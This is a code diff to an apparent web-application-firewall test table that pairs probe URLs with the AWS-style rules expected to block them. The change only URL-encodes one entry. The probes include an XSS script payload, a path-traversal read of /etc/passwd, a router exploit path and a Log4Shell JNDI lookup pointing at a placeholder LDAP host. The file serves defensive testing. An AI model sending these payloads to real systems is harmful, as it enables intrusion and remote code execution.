@@ -27,7 +27,7 @@ const PROBES: readonly (readonly [string, WafMatch])[] = (
     ["/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "Common", "CrossSiteScripting_QueryArguments"],
     ["/product/image?url=..%2f..%2f..%2fetc%2fpasswd", "Common", "GenericLFI_QueryArguments"],
     ["/cgi-bin/luci/;stok=/locale", "KnownBadInputs", "ExploitablePaths_URIPATH"],
-    ["/?x=${jndi:ldap://192.0.2.1/a}", "KnownBadInputs", "Log4JRCE_QUERYSTRING"],
+    ["/?x=%24%7Bjndi:ldap://192.0.2.1/a%7D", "KnownBadInputs", "Log4JRCE_QUERYSTRING"],
   ] as const
 ).map(([target, group, rule]) => [target, wafMatch(group, rule, "BLOCK")] as const);
 
